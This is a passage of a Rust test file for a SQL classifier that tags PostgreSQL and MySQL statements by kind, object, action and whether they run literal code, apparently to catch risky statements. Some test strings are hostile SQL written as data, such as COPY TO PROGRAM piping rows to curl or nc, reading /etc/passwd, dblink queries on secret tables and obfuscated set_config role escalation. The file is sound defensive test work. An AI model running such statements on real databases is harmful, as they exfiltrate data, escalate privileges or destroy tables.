        (Pg, "DROP OPERATOR FAMILY f USING btree", "drop", "operator", "", false),
        (Pg, "ALTER COLLATION c RENAME TO d", "alter", "collation", "rename", false),
        (Pg, "DROP COLLATION c", "drop", "collation", "", false),
        (Pg, "ALTER POLICY p ON t RENAME TO q", "alter", "policy", "rename", false),
        (Pg, "ALTER TRIGGER tr ON t RENAME TO u", "alter", "trigger", "rename", false),
        (Pg, "ALTER AGGREGATE a(int) RENAME TO b", "alter", "aggregate", "rename", false),
        (Pg, "ALTER TEXT SEARCH CONFIGURATION c RENAME TO d", "alter", "text_search", "rename", false),
        (Pg, "COMMENT ON EXTENSION e IS 'x'", "comment", "extension", "", false),
        (Pg, "CREATE USER bob", "create", "role", "", false),
        (Pg, "ALTER USER bob WITH PASSWORD 'x'", "alter", "role", "set_password", false),
        (Pg, "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", "grant", "table", "", false),
        // No object: queries, DML, session statements.
        (Pg, "SELECT * FROM t", "select", "", "", false),
        (Pg, "INSERT INTO t VALUES (1)", "insert", "", "", false),
        (Pg, "UPDATE t SET a = 1 WHERE b = 2", "update", "", "", false),
        (Pg, "DELETE FROM t", "delete", "", "", false),
        (Pg, "BEGIN", "begin", "", "", false),
        (My, "SHOW TABLES", "show", "", "", false),
        (Pg, "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "explain,create", "table", "", false),
    ];
    check_facts(CASES);
}

#[test]
fn actions() {
    #[rustfmt::skip]
    const CASES: &[Facts] = &[
        // COPY.
        (Pg, "COPY t TO PROGRAM 'curl -d @- https://x'", "copy", "", "copy_program", true),
        (Pg, "COPY t FROM PROGRAM 'cat /etc/passwd'", "copy", "", "copy_program", true),
        (Pg, "COPY (SELECT * FROM users) TO PROGRAM 'nc x 1'", "copy", "", "copy_program", true),
        (Pg, "COPY t TO '/tmp/x'", "copy", "", "copy_file", false),
        (Pg, "COPY t FROM '/etc/passwd'", "copy", "", "copy_file", false),
        (Pg, "COPY t TO STDOUT", "copy", "", "copy_to_client", false),
        (Pg, "COPY (SELECT 1) TO STDOUT WITH CSV", "copy", "", "copy_to_client", false),
        (Pg, "COPY t FROM STDIN", "copy", "", "copy_from_client", false),
        // The COPY recogniser for options sqlparser does not know.
        (Pg, "copy t from stdin with (freeze on)", "copy", "", "copy_from_client", false),
        (Pg, "copy t to stdout with (freeze on)", "copy", "", "copy_to_client", false),
        (Pg, "copy t from '/x' with (freeze on)", "copy", "", "copy_file", false),
        (Pg, "copy t to program 'x' with (freeze on)", "copy", "", "copy_program", true),
        // ALTER TABLE.
        (Pg, "ALTER TABLE t DROP COLUMN c", "alter", "table", "drop_column", false),
        (Pg, "ALTER TABLE t ADD COLUMN c int", "alter", "table", "add_column", false),
        (Pg, "ALTER TABLE t ALTER COLUMN c TYPE text", "alter", "table", "alter_column", false),
        (Pg, "ALTER TABLE t RENAME COLUMN a TO b", "alter", "table", "rename", false),
        (Pg, "ALTER TABLE t RENAME TO u", "alter", "table", "rename", false),
        (Pg, "ALTER TABLE t OWNER TO bob", "alter", "table", "change_owner", false),
        (Pg, "ALTER TABLE t DISABLE TRIGGER ALL", "alter", "table", "disable_trigger", false),
        (Pg, "ALTER TABLE t ENABLE REPLICA TRIGGER audit", "alter", "table", "disable_trigger", false),
        (Pg, "ALTER TABLE t DISABLE ROW LEVEL SECURITY", "alter", "table", "disable_row_security", false),
        (Pg, "ALTER TABLE t DISABLE RULE r", "alter", "table", "disable_trigger", false),
        (Pg, "ALTER TABLE t ENABLE ALWAYS TRIGGER x", "alter", "table", "", false),
        (Pg, "ALTER TABLE t NO FORCE ROW LEVEL SECURITY", "alter", "table", "disable_row_security", false),
        (Pg, "ALTER TABLE t ADD COLUMN a int, DROP COLUMN b", "alter", "table", "add_column,drop_column", false),
        (Pg, "alter table pgbench_branches add primary key (bid)", "alter", "table", "", false),
        (My, "ALTER TABLE t DROP c", "alter", "table", "drop_column", false),
        (My, "ALTER TABLE t ADD c INT", "alter", "table", "add_column", false),
        (My, "ALTER TABLE t MODIFY c BIGINT", "alter", "table", "alter_column", false),
        (My, "ALTER TABLE t CHANGE c d INT", "alter", "table", "alter_column,rename", false),
        (My, "ALTER TABLE t CHANGE c c INT", "alter", "table", "alter_column", false),
        (Pg, "ALTER SCHEMA s RENAME TO s2", "alter", "schema", "rename", false),
        (Pg, "ALTER SCHEMA s OWNER TO bob", "alter", "schema", "change_owner", false),
        // Roles and session identity.
        (Pg, "SET ROLE postgres", "set", "", "set_role", false),
        (Pg, "SET LOCAL ROLE admin", "set", "", "set_role", false),
        (Pg, "SET SESSION ROLE admin", "set", "", "set_role", false),
        (My, "SET ROLE DEFAULT", "set", "", "set_role", false),
        (Pg, "SET role = 'postgres'", "set", "", "set_parameter,set_role", false),
        (Pg, "SET \"ROLE\" TO postgres", "set", "", "set_parameter,set_role", false),
        (Pg, "SET ROLE NONE", "set", "", "reset_role", false),
        (Pg, "RESET ROLE", "reset", "", "reset_role", false),
        (Pg, "SET SESSION AUTHORIZATION postgres", "set", "", "set_session_authorization", false),
        (Pg, "SET session_authorization = 'postgres'", "set", "", "set_parameter,set_session_authorization", false),
        (Pg, "SET SESSION AUTHORIZATION DEFAULT", "set", "", "reset_session_authorization", false),
        (Pg, "RESET SESSION AUTHORIZATION", "reset", "", "reset_session_authorization", false),
        (Pg, "SELECT set_config('role', 'postgres', false)", "select", "", "set_parameter,set_role", false),
        (Pg, "SELECT pg_catalog.set_config('session_authorization', 'x', false)", "select", "", "set_parameter,set_session_authorization", false),
        (Pg, "SELECT set_config('search_path', 'evil', false)", "select", "", "set_parameter", false),
        (Pg, "SELECT * FROM set_config('ROLE', 'x', false)", "select", "", "set_parameter,set_role", false),
        // A name the text does not spell plainly may be any parameter.
        // The lexer decodes E'' escapes exactly: this is "role".
        (Pg, "SELECT set_config(E'r\\x6fle', 'x', false)", "select", "", "set_parameter,set_role", false),
        (Pg, "SELECT set_config('ro' || 'le', 'x', false)", "select", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "SELECT set_config($1, $2, false)", "select", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "SELECT set_config('ro\\le', 'x', false)", "select", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'", "update", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "UPDATE pg_catalog.pg_settings SET setting = 'x'", "update", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "WITH u AS (UPDATE pg_settings SET setting = 'x' WHERE name = 'role' RETURNING 1) SELECT * FROM u", "select,update", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "CREATE VIEW s AS SELECT * FROM pg_catalog.pg_settings", "create", "view", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "CREATE MATERIALIZED VIEW s AS SELECT * FROM pg_settings", "create", "materialized_view", "", false),
        (Pg, "SELECT set_config(setting_name => 'search_path', new_value => 'x', is_local => false)", "select", "", "set_parameter,set_role,set_session_authorization,disable_trigger", false),
        (Pg, "SELECT * FROM pg_settings WHERE name = 'role'", "select", "", "", false),
        (Pg, "SET session_replication_role = replica", "set", "", "set_parameter,disable_trigger", false),
        // Other parameters.
        (Pg, "SET search_path = public", "set", "", "set_parameter", false),
        (Pg, "SET LOCAL statement_timeout = '5s'", "set", "", "set_parameter", false),
        (Pg, "SET TIME ZONE 'UTC'", "set", "", "set_parameter", false),
        (Pg, "RESET search_path", "reset", "", "set_parameter", false),
        (Pg, "RESET ALL", "reset", "", "set_parameter", false),
        (Pg, "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "set", "", "", false),
        (My, "SET NAMES utf8mb4", "set", "", "set_parameter", false),
        (My, "SET autocommit = 0", "set", "", "set_parameter", false),
        (My, "SET SESSION sql_mode = ''", "set", "", "set_parameter", false),
        (My, "SET @@session.sql_mode = ''", "set", "", "set_parameter", false),
        (My, "SET @@sql_mode = ''", "set", "", "set_parameter", false),
        (My, "SET @x = 1", "set", "", "", false),
        (My, "SET GLOBAL general_log = 1", "set", "", "alter_system,set_parameter", false),
        (My, "SET @@global.general_log = 1", "set", "", "alter_system,set_parameter", false),
        (My, "SET @@GLOBAL.general_log = 1, @x = 2", "set", "", "alter_system,set_parameter", false),
        (My, "SET @@persist.max_connections = 10", "set", "", "alter_system,set_parameter", false),
        (My, "SET PASSWORD = 'x'", "set", "", "set_password", false),
        (My, "SET ROLE r", "set", "", "set_role", false),
        (My, "SET ROLE ALL", "set", "", "set_role", false),
        (My, "SET ROLE NONE", "set", "", "reset_role", false),
        (Pg, "ALTER SYSTEM SET work_mem = '1GB'", "alter", "", "alter_system", false),
        (Pg, "alter system set shared_preload_libraries to 'a', 'b'", "alter", "", "alter_system", false),
        (Pg, "ALTER SYSTEM SET log_min_duration_statement = -1", "alter", "", "alter_system", false),
        (Pg, "ALTER SYSTEM RESET ALL", "alter", "", "alter_system", false),
        (Pg, "ALTER SYSTEM RESET pg_stat_statements.max", "alter", "", "alter_system", false),
        // Libraries.
        (Pg, "LOAD 'auto_explain'", "other", "", "load_library", false),
        (Pg, "LOAD '$libdir/plugins/evil'", "other", "", "load_library", false),
        // MySQL definer views.
        (My, "CREATE DEFINER=root SQL SECURITY DEFINER VIEW v AS SELECT 1", "create", "view", "security_definer", false),
        (My, "CREATE SQL SECURITY INVOKER VIEW v AS SELECT 1", "create", "view", "", false),
        // Nested statements bring their actions.
        (Pg, "EXPLAIN ANALYZE SELECT set_config('role', 'x', false)", "explain,select", "", "set_parameter,set_role", false),
        // Plain EXPLAIN keeps actions (and objects) though its kinds drop.
        (Pg, "EXPLAIN SELECT set_config('role', 'x', false)", "explain", "", "set_parameter,set_role", false),
        (Pg, "EXPLAIN CREATE TABLE x AS SELECT 1", "explain", "table", "", false),
    ];
    check_facts(CASES);
}

#[test]
fn literal_code() {
    #[rustfmt::skip]
    const CASES: &[Facts] = &[
        (Pg, "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "do", "", "", true),
        (Pg, "EXECUTE p(1)", "execute", "", "", true),
        (My, "EXECUTE s USING @a", "execute", "", "", true),
        (My, "EXECUTE IMMEDIATE 'DROP TABLE t'", "execute", "", "", true),
        (Pg, "PREPARE p AS SELECT 1", "prepare,select", "", "", false),
        (Pg, "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "select", "", "", true),
        (Pg, "SELECT * FROM dblink('dbname=x', 'SELECT secret FROM vault') AS t(a text)", "select", "", "", true),
        (Pg, "SELECT public.dblink_open('c', 'SELECT 1')", "select", "", "", true),
        (Pg, "SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", "select", "", "", true),
        (Pg, "SELECT pg_catalog.query_to_xml_and_xmlschema('x', true, true, '')", "select", "", "", true),
        (Pg, "SELECT table_to_xml('secrets', true, true, '')", "select", "", "", true),
        (Pg, "SELECT cursor_to_xml('c', 10, true, true, '')", "select", "", "", true),
        (Pg, "SELECT database_to_xml(true, true, '')", "select", "", "", true),
        (Pg, "SELECT * FROM ts_stat('SELECT body FROM secrets')", "select", "", "", true),
        (Pg, "SELECT cron.schedule('* * * * *', 'DROP TABLE t')", "select", "", "", true),
        (My, "CALL sys.execute_prepared_stmt('DROP TABLE t')", "call", "", "", true),
        (Pg, "SELECT lower('x'), xmlparse(content '<a/>')", "select", "", "", false),
        (Pg, "SELECT * FROM generate_series(1, 3)", "select", "", "", false),
    ];
    check_facts(CASES);
}

#[test]
fn fact_names() {
    for o in ObjectKind::ALL {
        assert_eq!(o.as_str().parse::<ObjectKind>(), Ok(*o));
        assert_eq!(
            serde_json::to_string(o).unwrap(),
            format!("\"{}\"", o.as_str())
        );
    }
    for a in Action::ALL {
        assert_eq!(a.as_str().parse::<Action>(), Ok(*a));
        assert_eq!(
            serde_json::to_string(a).unwrap(),
            format!("\"{}\"", a.as_str())
        );
    }
    for (name, _) in ObjectKind::UNPARSED {
        let e = name.parse::<ObjectKind>().unwrap_err();
        assert!(e.contains("can never match"), "{e}");
        assert!(!ObjectKind::ALL.iter().any(|o| o.as_str() == *name));
    }
    // Statements fresh from serialized records without the new fields.
    let old =
        r#"{"text":"SELECT 1","kinds":["select"],"tables":[],"functions":[],"has_where":null}"#;
    let s: SqlStatement = serde_json::from_str(old).unwrap();
    assert!(s.objects.is_empty() && s.actions.is_empty() && !s.literal_code);
}

#[test]
fn procedure_bodies_are_literal_code() {
    // `CREATE PROCEDURE … BEGIN …; END` has a `;` inside, so it only gets
    // here whole once the splitter keeps such bodies together.
    use sqlparser::dialect::{MySqlDialect, PostgreSqlDialect};
    use sqlparser::parser::Parser;
    let cases: &[(Dialect, &str)] = &[
        (Pg, "CREATE PROCEDURE p() AS BEGIN SELECT 1; END"),
        (My, "CREATE PROCEDURE p AS BEGIN SELECT 1; END"),
    ];
    for (d, sql) in cases {
        let ast = match d {
            Pg => Parser::parse_sql(&PostgreSqlDialect {}, sql),
            My => Parser::parse_sql(&MySqlDialect {}, sql),
        }
        .unwrap();
        let got = super::classify::from_ast(&ast[0], sql, *d);
        assert_eq!(got.kind(), StatementKind::Create, "{sql}");
        assert_eq!(got.objects, [ObjectKind::Procedure], "{sql}");
        assert!(got.literal_code, "{sql}");
    }
}
